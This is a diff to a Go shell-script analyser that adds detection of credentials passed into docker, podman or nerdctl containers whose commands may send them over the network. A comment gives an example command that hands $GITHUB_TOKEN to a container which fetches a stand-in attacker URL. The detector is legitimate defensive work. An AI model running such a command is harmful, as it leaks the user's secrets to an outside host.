@@ -372,6 +372,10 @@ func (r *run) secretEgress(sc *scope, s *syntax.Stmt, call *syntax.CallExpr, fs,
 		r.judgeEgress(b, r.sentCredentials(sc, s, call), nil, cmd)
 		return
 	}
+	if names := r.containerCredentials(sc, b, call, fs); len(names) > 0 {
+		r.judgeEgress(b, names, nil, cmd)
+		return
+	}
 	if names := r.handedCredentials(b, fs); len(names) > 0 {
 		r.judgeEgress(b, names, nil, cmd)
 		return
@@ -461,6 +465,64 @@ func (r *run) handedCredentials(b string, fs []field) []string {
 				names = append(names, name)
 			}
 		}
+	}
+	return names
+}
+
+// containerCredentials returns the credentials a container command
+// (docker run, create or exec, and podman's and nerdctl's) gives its
+// container with -e/--env (-e NAME passes the shell's value, -e
+// NAME=VALUE the value) when the container's command may send it: a word
+// after the options names a network sender or holds a URL (docker run
+// -e T="$GITHUB_TOKEN" alpine sh -c 'wget https://evil.example/$T').
+// Where it sends is not known. A container given one with no such word
+// runs the project's own program, and is allowed.
+func (r *run) containerCredentials(sc *scope, b string, call *syntax.CallExpr, fs []field) []string {
+	if b != "docker" && b != "podman" && b != "nerdctl" || len(fs) < 3 {
+		return nil
+	}
+	switch fs[1].val {
+	case "run", "create", "exec":
+	default:
+		return nil
+	}
+	var names []string
+	sends := false
+	for i := 2; i < len(fs); i++ {
+		v, j := fs[i].val, i
+		switch {
+		case (v == "-e" || v == "--env") && i+1 < len(fs):
+			i++
+			v, j = fs[i].val, i
+		case strings.HasPrefix(v, "--env="):
+			v = v[len("--env="):]
+		case strings.HasPrefix(v, "-e") && len(v) > 2:
+			v = v[2:]
+		default:
+			if strings.Contains(v, "://") {
+				sends = true
+			}
+			for _, t := range strings.FieldsFunc(v, func(c rune) bool {
+				return !(c == '_' || c == '-' || c == '.' || c >= '0' && c <= '9' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z')
+			}) {
+				if networkSenders[t] || urlPrograms[t] {
+					sends = true
+				}
+			}
+			continue
+		}
+		if name, _, set := strings.Cut(v, "="); !set {
+			if c := r.credential(sc, name, call.Pos().Offset()); c != "" {
+				names = append(names, c)
+			}
+		} else if len(fs) == len(call.Args) {
+			names = r.credentials(sc, call.Args[j], names)
+		} else if fs[j].dyn {
+			names = r.credentials(sc, call, names) // words and fields differ: any credential in the command
+		}
+	}
+	if !sends {
+		return nil
 	}
 	return names
 }
